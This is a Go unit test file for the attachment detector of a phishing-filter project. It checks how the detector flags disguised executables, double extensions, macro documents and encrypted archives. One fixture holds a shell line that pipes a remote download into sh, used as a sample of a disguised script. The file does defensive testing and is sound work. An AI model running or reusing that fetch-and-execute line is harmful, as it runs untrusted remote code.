package detect

import (
	"context"
	"testing"

	"github.com/mikey/phishguard/internal/core"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

var (
	peHead     = append([]byte("MZ\x90\x00\x03\x00\x00\x00"), make([]byte, 64)...)
	pdfHead    = []byte("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n")
	pngHead    = []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR")
	scriptHead = []byte("#!/bin/sh\ncurl http://x | sh\n")
)

func zipHead(flags byte) []byte {
	head := []byte("PK\x03\x04\x14\x00")
	head = append(head, flags, 0x00)
	return append(head, make([]byte, 40)...)
}

func detectAttachments(t *testing.T, atts ...core.Attachment) []core.Finding {
	t.Helper()
	a := NewAttachmentAnalyzer(DefaultRules())
	findings, err := a.Detect(context.Background(), &core.Email{Attachments: atts})
	require.NoError(t, err)
	return findings
}

func TestAttachmentDoubleExtension(t *testing.T) {
	findings := detectAttachments(t, core.Attachment{
		Filename: "invoice.pdf.exe", DeclaredType: "application/pdf", Size: 2048, Head: peHead,
	})
	assert.Equal(t, []string{IndicatorDangerousExtension, IndicatorDoubleExtension}, indicators(findings))
	assert.Equal(t, WeightDangerousExtension, findings[0].Weight)
	assert.Equal(t, core.CategoryAttachment, findings[0].Category)
}

func TestAttachmentDisguisedExecutable(t *testing.T) {
	findings := detectAttachments(t, core.Attachment{
		Filename: "report.pdf", DeclaredType: "application/pdf", Size: 2048, Head: peHead,
	})
	assert.Equal(t, []string{IndicatorDisguisedExecutable}, indicators(findings))
	assert.Equal(t, WeightDisguisedExecutable, findings[0].Weight)

	findings = detectAttachments(t, core.Attachment{
		Filename: "notes.txt", DeclaredType: "text/plain", Size: int64(len(scriptHead)), Head: scriptHead,
	})
	assert.Equal(t, []string{IndicatorDisguisedExecutable}, indicators(findings))
	assert.Contains(t, findings[0].Evidence, "script")
}

func TestAttachmentBenign(t *testing.T) {
	findings := detectAttachments(t,
		core.Attachment{Filename: "report.pdf", DeclaredType: "application/pdf", Size: 2048, Head: pdfHead},
		core.Attachment{Filename: "photo.jpg", DeclaredType: "image/jpeg", Size: 2048, Head: pngHead},
		core.Attachment{Filename: "data.bin", DeclaredType: "application/octet-stream", Size: 2048, Head: pdfHead},
	)
	assert.Empty(t, findings)
	assert.NotNil(t, findings)
}

func TestAttachmentTypeMismatch(t *testing.T) {
	findings := detectAttachments(t, core.Attachment{
		Filename: "scan.jpg", DeclaredType: "image/jpeg; name=scan.jpg", Size: 2048, Head: pdfHead,
	})
	assert.Equal(t, []string{IndicatorTypeMismatch}, indicators(findings))
	assert.Contains(t, findings[0].Evidence, "application/pdf")
}

func TestAttachmentEncryptedArchive(t *testing.T) {
	findings := detectAttachments(t, core.Attachment{
		Filename: "docs.zip", DeclaredType: "application/zip", Size: 512, Head: zipHead(0x01),
	})
	assert.Contains(t, indicators(findings), IndicatorEncryptedArchive)

	findings = detectAttachments(t, core.Attachment{
		Filename: "docs.zip", DeclaredType: "application/zip", Size: 512, Head: zipHead(0x08),
	})
	assert.NotContains(t, indicators(findings), IndicatorEncryptedArchive)
}

func TestAttachmentMacroDocuments(t *testing.T) {
	findings := detectAttachments(t, core.Attachment{
		Filename: "budget.xlsm", DeclaredType: "application/vnd.ms-excel.sheet.macroEnabled.12", Size: 4096,
	})
	assert.Equal(t, []string{IndicatorMacroDocument}, indicators(findings))

	ole := append([]byte{0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1}, make([]byte, 504)...)
	findings = detectAttachments(t, core.Attachment{
		Filename: "letter.doc", DeclaredType: "application/msword", Size: 4096, Head: ole,
	})
	assert.Contains(t, indicators(findings), IndicatorMacroDocument)
	assert.NotContains(t, indicators(findings), IndicatorTypeMismatch)
}

func TestAttachmentSizeChecks(t *testing.T) {
	findings := detectAttachments(t,
		core.Attachment{Filename: "empty.txt", DeclaredType: "text/plain", Size: 0},
		core.Attachment{Filename: "huge.iso", DeclaredType: "application/octet-stream", Size: DefaultLargeAttachmentBytes + 1},
	)
	assert.Equal(t, []string{IndicatorEmptyAttachment, IndicatorOversizedAttachment}, indicators(findings))
}

func TestAttachmentDuplicateNamesAreDistinct(t *testing.T) {
	att := core.Attachment{Filename: "run.bat", DeclaredType: "application/octet-stream", Size: 10}
	findings := detectAttachments(t, att, att)
	assert.Equal(t, []string{IndicatorDangerousExtension, IndicatorDangerousExtension}, indicators(findings))
}

func TestExtensions(t *testing.T) {
	assert.Equal(t, []string{"pdf", "exe"}, extensions("Invoice.PDF.exe"))
	assert.Equal(t, []string{"exe"}, extensions(`C:\temp\setup.exe`))
	assert.Nil(t, extensions("README"))
	assert.Nil(t, extensions(".bashrc"))
}
